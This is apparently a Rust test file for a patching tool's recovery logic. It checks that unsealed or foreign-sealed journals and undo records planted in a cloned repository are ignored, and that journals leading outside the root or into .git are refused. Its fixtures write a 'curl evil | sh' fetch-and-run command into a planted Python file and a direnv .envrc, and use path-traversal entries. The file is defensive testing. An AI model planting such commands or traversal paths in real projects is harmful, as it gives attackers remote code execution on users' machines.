//! Records that came with the workspace: a `.patchdeck/` folder in a cloned repository, an
//! archive or another user's tree. Commands that only read never act on it; a journal or an
//! undo record is acted on only when sealed with this user's key for this workspace, and even
//! a sealed one only when every path in it has the shape patchdeck writes. One that is not
//! is ignored with a warning: never acted on, and never a reason to refuse a later command.

use crate::common::terminal::Terminal;
use crate::common::{patchdeck_env, sha, stderr, tree, user_tree, workspace_with};
use patchdeck::fs::Root;
use patchdeck::state::seal::{Binding, Key, Purpose};
use std::fs;
use std::path::Path;
use tempfile::TempDir;

/// A state folder of this test's own (`XDG_STATE_HOME`), so that the key is one the test can
/// seal with, as the user's own patchdeck would.
struct User {
    state: TempDir,
}

impl User {
    fn new() -> User {
        User {
            state: tempfile::tempdir().unwrap(),
        }
    }

    fn key(&self) -> Key {
        Key::load_or_create(&self.state.path().join("patchdeck/seal.key")).unwrap()
    }

    fn env(&self) -> [(&str, &str); 1] {
        [("XDG_STATE_HOME", self.state.path().to_str().unwrap())]
    }

    fn run(&self, ws: &Path, args: &[&str]) -> std::process::Output {
        let mut all = args.to_vec();
        all.extend(["--root", ws.to_str().unwrap()]);
        patchdeck_env(&all, &self.env())
    }
}

/// The journal a malicious repository would carry: it "rolls back" `src/app.py` to bytes of
/// its choosing and re-creates `.envrc` (which direnv runs) holding a shell command.
fn plant_rollback(ws: &Path, seal: Option<&Key>) {
    let id = format!("{:032x}-4242", 7);
    let app = fs::read(ws.join("src/app.py")).unwrap();
    let planted_app = b"import os; os.system('curl evil | sh')\n";
    let planted_envrc = b"curl evil | sh\n";
    // The "originals" beside their targets, where patchdeck keeps them during a commit.
    fs::write(ws.join(format!("src/.app.py.pd-{id}-0.orig")), planted_app).unwrap();
    fs::write(ws.join(format!("..envrc.pd-{id}-1.orig")), planted_envrc).unwrap();
    fs::create_dir_all(ws.join(".patchdeck")).unwrap();
    let journal = serde_json::json!({
        "version": 2, "id": id, "pid": 4242, "state": "prepared",
        "entries": [
            {"path": "src/app.py", "kind": "modify",
             "staged": format!("src/.app.py.pd-{id}-0.tmp"),
             "backup": format!("src/.app.py.pd-{id}-0.orig"),
             "preSha256": sha(planted_app), "postSha256": sha(&app), "createdDirs": []},
            {"path": ".envrc", "kind": "delete", "staged": null,
             "backup": format!("..envrc.pd-{id}-1.orig"),
             "preSha256": sha(planted_envrc), "postSha256": null, "createdDirs": []},
        ]
    });
    let bytes = serde_json::to_vec_pretty(&journal).unwrap();
    let bytes = match seal {
        Some(key) => key.seal(Purpose::Journal, &binding(ws), &bytes),
        None => bytes,
    };
    fs::write(ws.join(".patchdeck/journal"), bytes).unwrap();
}

/// The workspace whose root is `ws`, as patchdeck's seals name it.
pub fn binding(ws: &Path) -> Binding {
    Binding::of(&Root::open(&fs::canonicalize(ws).unwrap()).unwrap()).unwrap()
}

fn batch(dir: &TempDir) -> String {
    let path = dir.path().join("batch.diff");
    fs::write(
        &path,
        "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-print('hi')\n+print('hello')\n",
    )
    .unwrap();
    path.display().to_string()
}

#[test]
fn a_journal_that_came_with_a_clone_is_never_acted_on() {
    let user = User::new();
    user.key();
    let stranger = User::new();
    let outside = tempfile::tempdir().unwrap();
    let batch = batch(&outside);
    // Unsealed (a hand-made journal), and sealed by someone else's patchdeck.
    for (seal, why) in [
        (None, "it has no seal"),
        (Some(stranger.key()), "does not open with this user's key"),
    ] {
        let ws = workspace_with(&[("src/app.py", b"print('hi')\n")]);
        plant_rollback(ws.path(), seal.as_ref());
        let before = tree(ws.path());
        for args in [
            vec!["check", &batch],
            vec!["check", "--json", &batch],
            vec!["show", &batch, "src/app.py"],
            vec!["diff", &batch],
            vec!["apply", "--read-only", &batch],
            vec!["apply", "--dry-run", &batch],
        ] {
            let out = user.run(ws.path(), &args);
            let err = stderr(&out);
            assert!(
                err.contains("was not written by patchdeck for this user in this workspace")
                    && err.contains(why)
                    && err.contains("it is ignored"),
                "{args:?}: {err}"
            );
            assert!(
                !err.contains("an interrupted commit is waiting"),
                "{args:?}: {err}"
            );
            assert!(tree(ws.path()) == before, "{args:?} wrote something");
        }
        // A command that writes says so once, sets the journal aside, and goes on.
        let out = user.run(ws.path(), &["recover"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert!(
            stderr(&out).contains(
                "nothing was done with it; it is set aside as .patchdeck/journal.ignored"
            ),
            "{}",
            stderr(&out)
        );
        assert!(crate::common::stdout(&out).contains("nothing to recover"));
        assert_eq!(
            user_tree(ws.path()),
            user_tree_of(&before),
            "recover touched a file"
        );
        assert!(ws.path().join(".patchdeck/journal.ignored").exists());
        let out = user.run(ws.path(), &["apply", &batch]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert!(
            !stderr(&out).contains("journal"),
            "said again: {}",
            stderr(&out)
        );
        assert_eq!(
            fs::read(ws.path().join("src/app.py")).unwrap(),
            b"print('hello')\n",
            "the batch, not the planted bytes"
        );
        let out = user.run(ws.path(), &["undo"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert_eq!(
            fs::read(ws.path().join("src/app.py")).unwrap(),
            b"print('hi')\n"
        );
        assert!(!ws.path().join(".envrc").exists());
        // The planted "originals" are the repository's files: left as they came.
        let planted: Vec<_> = user_tree(ws.path())
            .into_keys()
            .filter(|p| p.to_string_lossy().contains(".pd-"))
            .collect();
        assert_eq!(planted.len(), 2, "{planted:?}");
    }
}

/// The tree without the state folder, of a tree taken with it.
fn user_tree_of(
    tree: &std::collections::BTreeMap<std::path::PathBuf, (Vec<u8>, u32)>,
) -> std::collections::BTreeMap<std::path::PathBuf, (Vec<u8>, u32)> {
    let mut tree = tree.clone();
    tree.retain(|path, _| !path.starts_with(".patchdeck"));
    tree
}

#[test]
fn the_reviewer_read_only_leaves_a_planted_journal_and_says_so() {
    let user = User::new();
    let outside = tempfile::tempdir().unwrap();
    let ws = workspace_with(&[("src/app.py", b"print('hi')\n")]);
    plant_rollback(ws.path(), None);
    let before = tree(ws.path());
    let batch = batch(&outside);
    let mut term = Terminal::start(
        outside.path(),
        &[
            "review",
            "--read-only",
            "--root",
            ws.path().to_str().unwrap(),
            &batch,
        ],
        &[
            ("NO_COLOR", "1"),
            ("XDG_STATE_HOME", user.state.path().to_str().unwrap()),
        ],
    );
    term.wait_for("was not written by patchdeck");
    term.keys(&["q"]);
    assert_eq!(term.wait_exit().0, 0);
    assert!(tree(ws.path()) == before);
}

/// Puts `journal` where an interrupted commit leaves its journal, sealed with `key`.
fn plant_sealed(root: &Path, key: &Key, journal: &serde_json::Value) {
    fs::create_dir_all(root.join(".patchdeck")).unwrap();
    fs::write(
        root.join(".patchdeck/journal"),
        key.seal(
            Purpose::Journal,
            &binding(root),
            journal.to_string().as_bytes(),
        ),
    )
    .unwrap();
}

/// Sealed with the user's own key, a journal is still held to the shapes patchdeck writes:
/// one that leads recovery out of the root or into `.git` is refused.
#[test]
fn a_sealed_journal_that_leads_out_of_the_root_is_refused_and_nothing_is_touched() {
    let user = User::new();
    let key = user.key();
    let victim = tempfile::tempdir().unwrap();
    fs::write(victim.path().join("keep.txt"), "keep\n").unwrap();
    let id = format!("{:032x}-1", 1);
    let sha = "a".repeat(64);
    let original = format!(".notes.txt.pd-{id}-0.orig");
    let entries = [
        // A staged file outside the root.
        serde_json::json!({"path": "notes.txt", "kind": "modify",
            "staged": victim.path().join("keep.txt"), "backup": original,
            "preSha256": sha, "postSha256": sha, "createdDirs": []}),
        // An original kept outside the root, to be moved over a file.
        serde_json::json!({"path": "notes.txt", "kind": "modify",
            "staged": format!(".notes.txt.pd-{id}-0.tmp"), "backup": victim.path().join("keep.txt"),
            "preSha256": sha, "postSha256": sha, "createdDirs": []}),
        // A file to restore that climbs out.
        serde_json::json!({"path": "../keep.txt", "kind": "delete", "staged": null,
            "backup": format!("../.keep.txt.pd-{id}-0.orig"), "preSha256": sha, "postSha256": null,
            "createdDirs": []}),
        // A file in .git.
        serde_json::json!({"path": ".git/config", "kind": "create",
            "staged": format!(".git/.config.pd-{id}-0.tmp"), "backup": null,
            "preSha256": null, "postSha256": sha, "createdDirs": [".git"]}),
    ];
    for (n, entry) in entries.iter().enumerate() {
        let ws = workspace_with(&[("notes.txt", b"mine\n")]);
        let journal = serde_json::json!({"version": 2, "id": id, "pid": 1,
            "state": "prepared", "entries": [entry]});
        plant_sealed(ws.path(), &key, &journal);
        let out = user.run(ws.path(), &["recover"]);
        assert_eq!(out.status.code(), Some(3), "entry {n}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("was not written by this version of patchdeck"),
            "entry {n}: {}",
            stderr(&out)
        );
        assert_eq!(fs::read(victim.path().join("keep.txt")).unwrap(), b"keep\n");
        assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"mine\n");
        assert!(
            ws.path().join(".patchdeck/journal").exists(),
            "kept for a person"
        );
    }
}

/// A journal left by the patchdeck before an upgrade (version 2, contents named by SHA-256),
/// sealed with the user's key, is still recovered: killed after its exchange, the original at
/// the staged name is found by its SHA-256 and put back.
#[test]
fn a_version_2_journal_from_before_an_upgrade_is_rolled_back() {
    let user = User::new();
    let key = user.key();
    let id = format!("{:032x}-1", 1);
    let ws = workspace_with(&[("notes.txt", b"new\n")]);
    let staged = format!(".notes.txt.pd-{id}-0.tmp");
    fs::write(ws.path().join(&staged), b"old\n").unwrap();
    let journal = serde_json::json!({"version": 2, "id": id, "pid": 1, "state": "prepared",
        "entries": [{"path": "notes.txt", "kind": "modify", "staged": staged,
            "backup": format!(".notes.txt.pd-{id}-0.orig"), "preSha256": sha(b"old\n"),
            "postSha256": sha(b"new\n"), "createdDirs": []}]});
    plant_sealed(ws.path(), &key, &journal);
    let out = user.run(ws.path(), &["recover"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"old\n");
    assert!(!ws.path().join(&staged).exists());
    assert!(!ws.path().join(".patchdeck/journal").exists());
}

/// An undo record that came with the workspace would make `undo` write its "originals": it
/// is not one of this workspace's records, so there is nothing to undo, and it is named.
#[test]
fn an_undo_record_that_came_with_a_clone_is_never_restored() {
    let user = User::new();
    let ws = workspace_with(&[("src/app.py", b"print('hi')\n")]);
    let id = format!("{:032x}-4242", 9);
    let record = ws.path().join(format!(".patchdeck/history/{id}"));
    fs::create_dir_all(&record).unwrap();
    let planted = b"import os; os.system('curl evil | sh')\n";
    fs::write(record.join("0"), planted).unwrap();
    let journal = serde_json::json!({
        "version": 2, "id": id, "pid": 4242, "state": "committed", "label": "harmless",
        "entries": [{"path": "src/app.py", "kind": "modify",
            "staged": format!("src/.app.py.pd-{id}-0.tmp"),
            "backup": format!(".patchdeck/history/{id}/0"),
            "preSha256": sha(planted), "postSha256": sha(b"print('hi')\n"), "createdDirs": []}]
    });
    fs::write(record.join("journal.json"), journal.to_string()).unwrap();
    fs::write(record.join("mark"), &id).unwrap();
    let before = tree(ws.path());
    let out = user.run(ws.path(), &["undo"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("nothing to undo")
            && stderr(&out).contains(&format!(
                ".patchdeck/history/{id}: no seal of this workspace's"
            )),
        "{}",
        stderr(&out)
    );
    assert!(tree(ws.path()) == before);
}

/// A journal sealed by the patchdeck from before seals named their workspace (a crash before
/// an upgrade): this user's key still opens it, so it is rolled back as it always was, and
/// said to be from the earlier patchdeck.
#[test]
fn a_journal_sealed_by_the_earlier_patchdeck_is_still_rolled_back() {
    use hmac::{Hmac, Mac};
    let user = User::new();
    user.key();
    let key = fs::read(user.state.path().join("patchdeck/seal.key")).unwrap();
    let id = format!("{:032x}-1", 1);
    let ws = workspace_with(&[("notes.txt", b"new\n")]);
    let staged = format!(".notes.txt.pd-{id}-0.tmp");
    fs::write(ws.path().join(&staged), b"old\n").unwrap();
    let body = serde_json::json!({"version": 2, "id": id, "pid": 1, "state": "prepared",
        "entries": [{"path": "notes.txt", "kind": "modify", "staged": staged,
            "backup": format!(".notes.txt.pd-{id}-0.orig"), "preSha256": sha(b"old\n"),
            "postSha256": sha(b"new\n"), "createdDirs": []}]})
    .to_string();
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(&key).unwrap();
    mac.update(b"patchdeck journal\0");
    mac.update(body.as_bytes());
    let tag: String = mac
        .finalize()
        .into_bytes()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    fs::create_dir_all(ws.path().join(".patchdeck")).unwrap();
    fs::write(
        ws.path().join(".patchdeck/journal"),
        format!("patchdeck-seal-v1 {tag}\n{body}"),
    )
    .unwrap();
    let out = user.run(ws.path(), &["recover"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("sealed by the patchdeck before this one; it was recovered here"),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"old\n");
    assert!(!ws.path().join(&staged).exists());
    assert!(!ws.path().join(".patchdeck/journal").exists());
}
